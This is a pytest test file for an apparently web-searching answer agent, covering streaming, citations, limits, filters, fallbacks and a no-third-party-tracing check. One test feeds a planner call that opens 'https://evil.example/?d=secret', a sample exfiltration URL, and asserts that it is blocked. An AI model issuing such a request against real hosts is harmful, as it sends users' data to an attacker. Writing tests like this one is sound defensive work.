"""The way of a question, from outside: events in, one last event out, whatever goes wrong."""

import asyncio
import json
import subprocess
import sys
import textwrap
from dataclasses import replace
from itertools import pairwise
from pathlib import Path

import pytest

from agent.answer import Answer
from agent.errors import ModelDown
from agent.events import (
    LAST,
    Answered,
    Cited,
    Corrected,
    Event,
    Failed,
    Judged,
    Packed,
    PageRead,
    PageSkipped,
    Planned,
    Searched,
    SearchFailed,
    Text,
    Thinking,
    Verified,
)
from agent.graph import ask
from agent.limits import DEPTH_LIMITS, Limits
from agent.nodes.deps import Deps
from agent.question import Filters, Question, Turn
from tests.fakes import CHAOXI, SUN, TIDES, FakeModel, FakeWeb, deps, down
from tools.page import Webpage

ROOT = Path(__file__).parents[2]
QUESTION = Question("Why are there tides?")
GOOD = [
    "The moon pulls the sea twice a day[cita",
    "tion:1]. The sun adds to the tides at new moon【citation:2】. Bad[citation:9].",
]


def call(name: str, **arguments: str) -> tuple[str, str]:
    return name, json.dumps(arguments)


async def events_of(question: Question, given: Deps) -> list[Event]:
    events = [event async for event in ask(question, given)]
    assert [event for event in events if isinstance(event, LAST)] == events[-1:]
    return events


async def answer_of(question: Question, given: Deps) -> Answer:
    last = (await events_of(question, given))[-1]
    assert isinstance(last, Answered), last
    return last.answer


def quickly(**seconds: float) -> Limits:
    return Limits(page_seconds=0.5, grace_seconds=0.2, search_seconds=0.5, **seconds)  # type: ignore[arg-type]


async def test_an_answer_streams_and_ends_with_its_valid_citations() -> None:
    model = FakeModel([GOOD], [[call("web_search", query="tides")]])
    events = await events_of(QUESTION, deps(FakeWeb(TIDES, SUN), model))

    assert [e for e in events if isinstance(e, Text | Cited)] == [
        Text("The moon pulls the sea twice a day"),
        Cited(1, TIDES.url, "Tides"),
        Text(". The sun adds to the tides at new moon"),
        Cited(2, SUN.url, "The sun"),
        Text(". Bad."),
    ]
    last = events[-1]
    assert isinstance(last, Answered)
    assert last.answer.status == "answered"
    assert last.answer.text == (
        "The moon pulls the sea twice a day[citation:1]. The sun adds to the tides at new moon[citation:2]. Bad."
    )
    assert last.answer.dropped_markers == 1
    assert [(s.number, s.verdict) for s in last.answer.supports] == [(1, "supported"), (2, "supported")]
    assert last.answer.thinking == "hm"
    assert [source.cited for source in last.answer.sources] == [True, True]


async def test_events_come_in_the_order_that_the_docs_promise() -> None:
    model = FakeModel([GOOD], [[call("web_search", query="tides")]])
    names = [type(event) for event in await events_of(QUESTION, deps(FakeWeb(TIDES, SUN), model))]

    assert list(dict.fromkeys(names)) == [
        Planned, Searched, PageRead, Packed, Thinking, Text, Cited, Judged, Verified, Answered,
    ]  # fmt: skip


async def test_several_calls_of_one_turn_run_at_once_and_the_question_is_never_replaced() -> None:
    web = FakeWeb(TIDES, SUN)
    both = asyncio.Barrier(2)

    async def search(query: object) -> list[object]:
        await asyncio.wait_for(both.wait(), 2)
        return await web.search(query)  # type: ignore[arg-type,return-value]

    model = FakeModel([GOOD], [[call("web_search", query="moon"), call("web_search", query="sun", recency="year")]])
    answer = await answer_of(QUESTION, deps(web, model, search=search))

    assert {query.text for query in web.queries} == {"moon", "sun"}
    assert [query.recency for query in web.queries if query.text == "sun"] == ["year"]
    assert answer.question == "Why are there tides?"
    assert model.written[0].messages[-1].content.endswith("Why are there tides?")


async def test_the_planner_may_open_only_pages_that_the_user_or_a_result_named() -> None:
    turns = [
        [call("web_search", query="tides"), call("open_page", url="https://evil.example/?d=secret")],
        [call("open_page", url=SUN.url)],
    ]
    web = FakeWeb(TIDES, SUN)
    events = await events_of(QUESTION, deps(web, FakeModel([GOOD], turns)))

    assert "https://evil.example/?d=secret" not in web.opened
    assert [e.reason for e in events if isinstance(e, PageSkipped)] == ["unknown_origin"]


async def test_an_address_in_the_question_is_read_without_being_searched_for() -> None:
    web = FakeWeb(TIDES)
    await answer_of(Question(f"What does {SUN.url} say?", depth="quick"), deps(FakeWeb(), None, read=web.read))

    assert web.opened == [SUN.url]


async def test_a_second_round_sees_the_first_one_and_only_appends_to_it() -> None:
    turns = [[call("web_search", query="tides")], [call("web_search", query="spring tides")]]
    model = FakeModel([GOOD], turns)
    await answer_of(QUESTION, deps(FakeWeb(TIDES, SUN), model))

    first, second = model.planned
    assert second.messages[: len(first.messages)] == first.messages
    assert [m.role for m in second.messages[len(first.messages) :]] == ["assistant", "tool"]
    assert "https://a.example/tides" in second.messages[-1].content
    assert first.tools == second.tools


async def test_rounds_and_calls_are_bounded() -> None:
    endless = [[call("web_search", query=f"q{turn}-{n}") for n in range(20)] for turn in range(20)]
    web, model = FakeWeb(TIDES), FakeModel([GOOD], endless)
    await answer_of(QUESTION, deps(web, model))

    assert len(model.planned) <= DEPTH_LIMITS["normal"].rounds
    assert len(web.queries) <= DEPTH_LIMITS["normal"].calls


@pytest.mark.parametrize("depth", ["quick", "normal", "research"])
async def test_pages_are_bounded_by_the_depth(depth: str) -> None:
    texts = [" ".join(f"word{page}x{n}" for n in range(40)) for page in range(60)]
    pages = [Webpage(f"https://p{n}.example/", f"P{n}", f"tides {text}") for n, text in enumerate(texts)]
    web = FakeWeb(*pages)
    model = FakeModel([GOOD], [[call("web_search", query=f"q{n}")] for n in range(6)])
    await answer_of(Question("Why are there tides?", depth=depth), deps(web, model))  # type: ignore[arg-type]

    assert 0 < len(web.opened) <= DEPTH_LIMITS[depth].pages  # type: ignore[index]


async def test_quick_asks_no_planner() -> None:
    web, model = FakeWeb(TIDES, SUN), FakeModel([GOOD])
    await answer_of(Question("Why are there tides?", depth="quick"), deps(web, model))

    assert model.planned == []
    assert [query.text for query in web.queries] == ["Why are there tides?"]


async def test_a_planner_that_calls_nothing_leaves_the_question_as_the_query() -> None:
    web = FakeWeb(TIDES, SUN)
    events = await events_of(QUESTION, deps(web, FakeModel([GOOD])))

    assert [query.text for query in web.queries] == ["Why are there tides?"]
    assert [e.fallback for e in events if isinstance(e, Planned)] == ["no_call"]


async def test_a_follow_up_sees_the_earlier_turns() -> None:
    model = FakeModel([GOOD])
    question = Question("And at new moon?", depth="quick", history=(Turn("Why tides?", "The moon[citation:3]."),))
    web = FakeWeb(TIDES, SUN)
    await answer_of(question, deps(web, model))

    assert [m.content for m in model.written[0].messages[1:3]] == ["Why tides?", "The moon."]
    assert "And at new moon? Why tides?" in [query.text for query in web.queries]


async def test_dead_and_slow_pages_are_left_behind_and_named_and_the_rest_keeps_its_numbers() -> None:
    web = FakeWeb(TIDES, SUN, dead=["https://dead.example/"], slow=["https://slow.example/"])
    given = deps(web, FakeModel([GOOD]), limits=quickly())
    answer = await asyncio.wait_for(answer_of(QUESTION, given), 5)

    assert {(s.url, s.reason) for s in answer.skipped} == {
        ("https://dead.example/", "dns"),
        ("https://slow.example/", "too_slow"),
    }
    assert [source.url for source in answer.sources] == [TIDES.url, SUN.url]


async def test_a_page_under_two_addresses_and_a_copied_text_are_read_once() -> None:
    long = "The moon pulls the sea twice a day and the sun adds to it at new moon. " * 5
    original = Webpage("https://a.example/x", "A", long)
    copy = Webpage("https://mirror.example/x", "A", long + "Mirror.")
    tracked = replace(original, url="https://a.example/x?utm_source=feed#top")
    web = FakeWeb(original, tracked, copy)
    answer = await answer_of(QUESTION, deps(web, FakeModel([GOOD])))

    assert web.opened == [original.url, copy.url]
    assert [source.url for source in answer.sources] == [original.url]
    assert [s.reason for s in answer.skipped] == ["duplicate"]


async def test_domain_filters_hold_even_if_the_engine_ignores_them() -> None:
    web = FakeWeb(TIDES, SUN)
    question = Question("Why are there tides?", filters=Filters(exclude_domains=("b.example",)))
    await answer_of(question, deps(web, FakeModel([GOOD])))

    assert web.opened == [TIDES.url]


async def test_the_days_that_are_wanted_reach_the_engines() -> None:
    web = FakeWeb(TIDES)
    question = Question("Why are there tides?", "quick", filters=Filters(after="2024-01-01", before="2025-02-28"))
    await answer_of(question, deps(web))
    assert [(query.after, query.before) for query in web.queries] == [("2024-01-01", "2025-02-28")]


async def test_a_page_that_states_a_day_outside_the_wanted_ones_is_named_and_not_cited() -> None:
    web = FakeWeb(TIDES, replace(SUN, date="2024-12-31"))
    question = Question("Why are there tides?", filters=Filters(after="2025-01-01"))
    answer = await answer_of(question, deps(web, FakeModel([GOOD])))

    assert [source.url for source in answer.sources] == [TIDES.url]
    assert [(page.url, page.reason) for page in answer.skipped] == [(SUN.url, "wrong_date")]


@pytest.mark.parametrize(
    "web",
    [FakeWeb(), FakeWeb(dead=["https://dead.example/"]), FakeWeb(down="timeout")],
    ids=["nothing found", "nothing readable", "search down"],
)
@pytest.mark.parametrize(("text", "says"), [("Why are there tides?", "No page"), ("为什么有潮汐？", "没有找到")])
async def test_without_a_page_the_answer_says_so_and_cites_nothing(web: FakeWeb, text: str, says: str) -> None:
    model = FakeModel()
    answer = await answer_of(Question(text), deps(web, model))

    assert answer.status == "no_sources"
    assert says in answer.text
    assert answer.citations == ()
    assert model.written == []


async def test_a_search_that_failed_says_so() -> None:
    events = await events_of(QUESTION, deps(FakeWeb(down="captcha"), FakeModel()))
    last = events[-1]

    assert [e.reason for e in events if isinstance(e, SearchFailed)] == ["captcha"]
    assert isinstance(last, Answered)
    assert "failed" in last.answer.text


async def test_an_uncited_answer_is_repaired_once_and_the_change_is_listed() -> None:
    model = FakeModel([["The moon pulls the sea, that is why."], ["The moon pulls the sea twice a day[citation:1]."]])
    events = await events_of(QUESTION, deps(FakeWeb(TIDES, SUN), model))
    last = events[-1]

    assert isinstance(last, Answered)
    assert last.answer.text == "The moon pulls the sea twice a day[citation:1]."
    assert [c.correction.before for c in events if isinstance(c, Corrected)] == ["The moon pulls the sea, that is why."]
    assert len(model.written) == 2


async def test_an_answer_that_stays_uncited_is_marked_and_kept() -> None:
    model = FakeModel([["Because of the moon, I am sure."], ["Still because of the moon."]])
    answer = await answer_of(QUESTION, deps(FakeWeb(TIDES, SUN), model))

    assert answer.status == "uncited"
    assert answer.text == "Because of the moon, I am sure."
    assert [flaw.rule for flaw in answer.flaws] == ["uncited"]


async def test_strict_shows_only_what_a_page_supports() -> None:
    model = FakeModel([["The moon pulls the sea twice a day[citation:1]. Bread is baked in ovens[citation:2]."]])
    answer = await answer_of(Question("Why are there tides?", strict=True), deps(FakeWeb(TIDES, SUN), model))

    assert answer.text.strip() == "The moon pulls the sea twice a day[citation:1]."
    assert [c.before for c in answer.corrections] == ["Bread is baked in ovens[citation:2]."]


async def test_a_stream_that_breaks_keeps_what_was_written_and_says_partial() -> None:
    model = FakeModel([["The moon pulls the sea twice a day[citation:1].", down("broken_stream")]])
    answer = await answer_of(QUESTION, deps(FakeWeb(TIDES), model))

    assert answer.status == "partial"
    assert answer.text == "The moon pulls the sea twice a day[citation:1]."


async def test_when_time_runs_out_what_was_written_is_kept() -> None:
    limits = replace(quickly(), depths={**DEPTH_LIMITS, "quick": replace(DEPTH_LIMITS["quick"], seconds=3.0)})
    model = FakeModel([["The moon pulls the sea twice a day[citation:1].", None]])
    given = deps(FakeWeb(TIDES), model, limits=limits)
    answer = await asyncio.wait_for(answer_of(Question("Why are there tides?", depth="quick"), given), 5)

    assert answer.status == "partial"
    assert answer.text


async def test_what_was_waited_before_the_question_began_is_taken_from_its_time() -> None:
    waited = Question("Why are there tides?", depth="quick", waited_seconds=DEPTH_LIMITS["quick"].seconds - 3)
    answer = await asyncio.wait_for(answer_of(waited, deps(FakeWeb(TIDES), FakeModel([[None]]), limits=quickly())), 20)

    assert answer.degraded == "deadline: the time for this question ran out before the first word"


async def test_a_model_that_says_nothing_until_time_runs_out_is_replaced_by_the_quoting_reader() -> None:
    limits = replace(quickly(), depths={**DEPTH_LIMITS, "quick": replace(DEPTH_LIMITS["quick"], seconds=3.0)})
    given = deps(FakeWeb(TIDES), FakeModel([[None]]), limits=limits)
    answer = await asyncio.wait_for(answer_of(Question("Why are there tides?", depth="quick"), given), 5)

    assert (answer.model, answer.degraded) == (
        "quoting-reader",
        "deadline: the time for this question ran out before the first word",
    )
    assert answer.citations


async def test_a_model_that_is_down_is_replaced_by_the_quoting_reader_and_said_so() -> None:
    async def dead(_prompt: object):  # type: ignore[no-untyped-def]
        raise down()
        yield

    answer = await answer_of(QUESTION, deps(FakeWeb(TIDES), FakeModel(), generate=dead))

    assert answer.model == "quoting-reader"
    assert answer.degraded == "unreachable: the model server does not answer"
    assert answer.citations


async def test_where_the_operator_forbids_it_a_model_that_is_down_is_a_failure() -> None:
    async def dead(_prompt: object):  # type: ignore[no-untyped-def]
        raise ModelDown("unreachable", "The model server does not answer.")
        yield

    events = await events_of(QUESTION, deps(FakeWeb(TIDES), FakeModel(), generate=dead, degrade=False))

    assert events[-1] == Failed("model_down", "The model server does not answer.")


async def test_a_model_without_any_text_is_asked_once_more() -> None:
    model = FakeModel([[""], ["The moon pulls the sea twice a day[citation:1]."]])
    answer = await answer_of(QUESTION, deps(FakeWeb(TIDES), model))

    assert answer.text.startswith("The moon")


async def test_without_a_model_the_quoting_reader_answers() -> None:
    answer = await answer_of(Question("Why are there tides?", depth="quick"), deps(FakeWeb(TIDES)))

    assert (answer.model, answer.status, answer.degraded) == ("quoting-reader", "answered", "")


async def test_files_without_a_search_are_answered_from_the_vendors_file_template() -> None:
    page = Webpage("file:notes.md", "notes.md", "The moon pulls.")
    web, model = FakeWeb(TIDES), FakeModel([["It pulls."]])
    answer = await answer_of(Question("What does it do?", files=(page,), search=False), deps(web, model))

    assert web.queries == []
    assert model.written[0].messages[-1].content.startswith("[file name]: notes.md\n")
    assert (answer.status, answer.flaws) == ("answered", ())


async def test_files_with_a_search_are_numbered_pages_that_can_be_cited() -> None:
    page = Webpage("file:notes.md", "notes.md", "The moon pulls the sea twice a day, say my notes on tides.")
    model = FakeModel([["The moon pulls[citation:1]. Full moon[citation:2]."]])
    answer = await answer_of(Question("Why are there tides?", files=(page,)), deps(FakeWeb(TIDES), model))

    assert {source.url for source in answer.sources} == {"file:notes.md", TIDES.url}


async def test_when_the_caller_leaves_the_model_stops() -> None:
    model = FakeModel([["The moon", " pulls", None]])
    answering = ask(QUESTION, deps(FakeWeb(TIDES), model))
    async for event in answering:
        if isinstance(event, Text):
            break
    await asyncio.wait_for(answering.aclose(), 1)

    assert model.stopped == len(model.prompts)


async def test_a_question_that_cannot_fit_is_refused_with_the_numbers() -> None:
    limits = replace(Limits(), context_tokens=9_000)
    events = await events_of(QUESTION, deps(FakeWeb(TIDES), FakeModel([GOOD]), limits=limits, degrade=False))

    assert isinstance(events[-1], Failed)
    assert "9,000" in events[-1].message


async def test_a_chinese_question_gets_the_chinese_template_and_its_pages() -> None:
    model = FakeModel([["潮汐由月球引力引起[citation:1]。"]])
    answer = await answer_of(Question("为什么有潮汐？"), deps(FakeWeb(CHAOXI), model))

    assert (
        model.written[0]
        .messages[-1]
        .content.startswith("# 以下内容是基于用户发送的消息的搜索结果:\n[webpage 1 begin]\n标题: 潮汐")
    )
    assert (answer.language, answer.supports[0].verdict) == ("zh", "supported")


async def test_as_many_rounds_as_an_operator_allows() -> None:
    """LangGraph's own limit of 25 steps must not end a question."""
    many = replace(DEPTH_LIMITS["research"], rounds=30, calls=100)
    turns = [[call("web_search", query=f"q{n}")] for n in range(30)]
    pages = [Webpage(f"https://p{n}.example/", f"P{n}", f"tides {n} " + f"word{n} " * 20) for n in range(3)]
    model = FakeModel([GOOD], turns)
    given = deps(FakeWeb(*pages), model, limits=replace(Limits(), depths={**DEPTH_LIMITS, "research": many}))
    await answer_of(Question("Why are there tides?", depth="research"), given)

    assert len(model.planned) == 30


def test_no_question_is_traced_to_a_third_party_whatever_the_environment_says() -> None:
    """LANGSMITH_TRACING=true is set on many machines; LangGraph would send questions and answers away."""
    code = textwrap.dedent("""
        import asyncio, http.server, os, sys, threading, time
        hits = []
        class Collector(http.server.BaseHTTPRequestHandler):
            def do_POST(self):
                hits.append(self.path)
                self.rfile.read(int(self.headers.get("content-length", 0)))
                self.send_response(200); self.end_headers(); self.wfile.write(b"{}")
            do_GET = do_PATCH = do_POST
            def log_message(self, *_): pass
        server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Collector)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        os.environ.update(LANGSMITH_TRACING="true", LANGCHAIN_TRACING_V2="true", LANGSMITH_API_KEY="x",
                          LANGSMITH_ENDPOINT=f"http://127.0.0.1:{server.server_port}")
        from agent.graph import ask
        from agent.question import Question
        from tests.fakes import TIDES, FakeWeb, deps
        async def main():
            return [event async for event in ask(Question("Why tides?", depth="quick"), deps(FakeWeb(TIDES)))]
        assert len(asyncio.run(main())) > 3
        time.sleep(2)
        sys.exit(bool(hits))
    """)
    done = subprocess.run([sys.executable, "-c", code], cwd=ROOT, capture_output=True, text=True, check=False)

    assert done.returncode == 0, done.stderr


async def test_each_planner_round_extends_the_one_before_whatever_was_read_since() -> None:
    pages = [Webpage(f"https://p{n}.example/", f"P{n}", f"tides {n} " * 40) for n in range(60)]
    turns = [[call("web_search", query="q")], [call("open_page", url=pages[9].url)], [call("web_search", query="r")]]
    model = FakeModel([GOOD], turns)
    await answer_of(Question("Why are there tides?", depth="research"), deps(FakeWeb(*pages), model))

    assert len(model.planned) == 4
    for earlier, later in pairwise(model.planned):
        assert later.messages[: len(earlier.messages)] == earlier.messages
        assert later.tools == earlier.tools
